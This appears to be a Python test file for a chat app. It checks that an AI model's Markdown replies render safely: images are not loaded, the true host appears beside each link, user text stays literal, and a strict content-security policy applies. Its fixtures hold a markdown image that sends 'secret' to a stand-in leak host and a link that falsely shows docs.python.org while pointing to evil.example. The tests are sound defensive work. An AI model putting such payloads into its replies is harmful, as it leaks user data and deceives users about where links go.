"""The model's Markdown on the chat page: an assistant's reply renders (stored, and while it
streams), the person's own words stay text, and the page's policy lets no image or request leave
for another site."""

from __future__ import annotations

from app.copilot import events
from app.copilot.events import Event
from app.copilot.kit import text
from app.web import LiveText
from tests.helpers.markdown import Elements

REPLY = "Here:\n\n- **one**\n- two\n\n```\nx  =  1\n```\n\n[docs.python.org](https://evil.example/p) ![x](https://leak.example/?q=secret)"


def test_a_stored_reply_renders_its_markdown_and_the_persons_words_stay_text(alice, model):
    convo = alice.new_conversation()
    model.enqueue(text(REPLY))
    alice.say(convo, "**not bold** [mine](https://evil.example)")
    page = alice.client.get(f"/c/{convo}").get_data(as_text=True)
    start = page.index('id="messages"')
    log = Elements(page[start : page.index('id="events"')])
    assert [attrs["href"] for attrs in log.named("a")] == ["https://evil.example/p", "https://leak.example/?q=secret"]
    assert log.named("img") == [] and len(log.named("li")) == 2 and log.named("strong") == [{}]
    assert "docs.python.org (evil.example)" in log.words and "image: leak.example" in log.words
    assert "x  =  1" in log.words
    # The person's message: exactly as typed, asterisks and brackets and all.
    assert "**not bold** [mine](https://evil.example)" in log.words


def test_a_reply_answering_the_post_renders_too(alice, model):
    convo = alice.new_conversation()
    model.enqueue(text("1. first\n2. second"))
    html = alice.say(convo, "list")
    assert len(Elements(html).named("li")) == 2


def test_the_policy_keeps_images_and_requests_to_our_own_origin(alice):
    csp = alice.client.get("/").headers["Content-Security-Policy"]
    directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
    assert directives["img-src"] == ["'self'"]
    assert directives["connect-src"] == ["'self'"]
    assert directives["default-src"] == ["'self'"] and directives["object-src"] == ["'none'"]


def _text_events(app, conversation_id, pieces):
    with app.app_context():
        events.publish(conversation_id, "turn", run=7, step=1, state="started", answers=None)
        return [events.publish(conversation_id, "text", run=7, step=1, text=p) for p in pieces]


def test_each_streamed_update_shows_the_whole_reply_so_far_rendered(app):
    ids = _text_events(app, 91, ["- one\n- t", "wo\n\n[doc", "s](https://evil.example/x)"])
    live = LiveText(91)
    live.started(7, 1)
    with app.app_context():
        shown = [
            live.add(Event(i, "text", {"run": 7, "step": 1, "text": p}))[0]
            for i, p in zip(ids, ["- one\n- t", "wo\n\n[doc", "s](https://evil.example/x)"], strict=True)
        ]
    assert shown[-1] == "- one\n- two\n\n[docs](https://evil.example/x)"
    with app.test_request_context():
        from app.web import render_event

        fragment = Elements(
            render_event(Event(ids[-1], "text", {"run": 7, "step": 1, "text": "s](https://evil.example/x)"}), None, LiveText(91))
        )
    # Rendered, not appended: it replaces the paragraph's content with the whole reply so far
    # (after the reply's bubble: this stream joined mid-reply, and the page may have none).
    assert fragment.tags[0] == ("div", {"class": "turn turn--live", "id": "turn-7-1", "hx-swap-oob": "true"})
    assert ("div", {"hx-swap-oob": "innerHTML:#text-7-1"}) in fragment.tags
    assert len(fragment.named("li")) == 2 and fragment.named("a")[0]["href"] == "https://evil.example/x"
    assert "docs (evil.example)" in fragment.words


def test_a_stream_that_joins_mid_reply_reads_the_words_it_missed(app):
    ids = _text_events(app, 92, ["Alpha ", "**bravo** ", "charlie"])
    live = LiveText(92)  # a reconnect: it never saw the turn start
    with app.app_context():
        text, html = live.add(Event(ids[2], "text", {"run": 7, "step": 1, "text": "charlie"}))
    assert text == "Alpha **bravo** charlie" and Elements(html).named("strong") == [{}]
